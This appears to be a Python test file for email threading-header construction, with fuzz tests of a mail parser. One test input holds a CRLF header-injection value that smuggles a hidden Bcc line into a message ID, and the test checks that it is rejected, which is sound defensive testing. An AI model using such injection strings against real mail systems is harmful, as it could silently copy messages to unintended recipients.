def test_thread_headers_answer_the_last_parent_and_list_them_all():
    headers = thread_headers("<new@example.com>", ["<a@example.com>", "b@example.com", " <c@example.com> "])
    assert headers == {
        "Message-ID": "<new@example.com>",
        "In-Reply-To": "<c@example.com>",
        "References": "<a@example.com> <b@example.com> <c@example.com>",
    }


def test_thread_headers_drop_repeats_own_id_and_malformed_ids():
    headers = thread_headers(
        "<new@example.com>",
        ["<a@example.com>", "<b@example.com>", "<new@example.com>", "<x\r\nBcc: v@example.net>", "", "<a@example.com>"],
    )
    assert headers["References"] == "<b@example.com> <a@example.com>"
    assert headers["In-Reply-To"] == "<a@example.com>"


def test_thread_headers_name_at_most_the_last_twenty_parents():
    parents = [f"<{number}@example.com>" for number in range(25)]
    headers = thread_headers("<new@example.com>", parents)
    assert headers["References"].split() == parents[-MAX_REFERENCES:] == parents[5:]
    assert headers["In-Reply-To"] == "<24@example.com>"


def test_thread_headers_of_a_first_message():
    assert thread_headers("new@example.com", []) == {"Message-ID": "<new@example.com>"}
    with pytest.raises(ValueError):
        thread_headers("<>", ["<a@example.com>"])


def test_threading_round_trip_through_a_parsed_reply():
    """Headers we send come back in the customer's reply and lead to the same parents."""
    ours = thread_headers("<ours@example.com>", ["<first@customer.example>"])
    reply = parse_message(
        (
            "From: customer@customer.example\r\nMessage-ID: <theirs@customer.example>\r\n"
            f"In-Reply-To: {ours['Message-ID']}\r\nReferences: {ours['References']} {ours['Message-ID']}\r\n\r\nOK"
        ).encode()
    )
    assert reply.parent_ids == ["<first@customer.example>", "<ours@example.com>"]
    assert thread_headers("<answer@example.com>", [*reply.parent_ids, reply.message_id])["References"] == (
        "<first@customer.example> <ours@example.com> <theirs@customer.example>"
    )


# --- Any input ----------------------------------------------------------------------------------

REAL_MESSAGES = [THUNDERBIRD, OUTLOOK, FOXMAIL, GMAIL, HTML_ONLY, BOUNCE, OUT_OF_OFFICE, BROKEN]
FUZZ = settings(derandomize=True, max_examples=200, deadline=None, database=None)


def _parse_or_refuse(raw: bytes) -> None:
    try:
        message = parse_message(raw)
    except MailParseError:
        assert not raw.strip()
        return
    assert isinstance(message, InboundMessage)
    assert message.message_id.startswith("<") and message.message_id.endswith(">")
    one_line = [message.message_id, message.subject, message.from_name, message.from_address]
    assert not any(character in value for value in one_line for character in "\r\n\0")
    assert "\0" not in message.text
    strip_quoted_reply(message.text)


@FUZZ
@given(st.binary(max_size=3000))
def test_parse_message_never_fails_on_arbitrary_bytes(raw):
    _parse_or_refuse(raw)


@FUZZ
@given(
    st.sampled_from(REAL_MESSAGES),
    st.lists(st.tuples(st.integers(0, 1 << 16), st.integers(0, 64), st.binary(max_size=24)), max_size=6),
)
def test_parse_message_never_fails_on_damaged_real_messages(raw, edits):
    damaged = bytearray(raw)
    for position, removed, inserted in edits:
        position %= len(damaged) + 1
        damaged[position : position + removed] = inserted
    _parse_or_refuse(bytes(damaged))
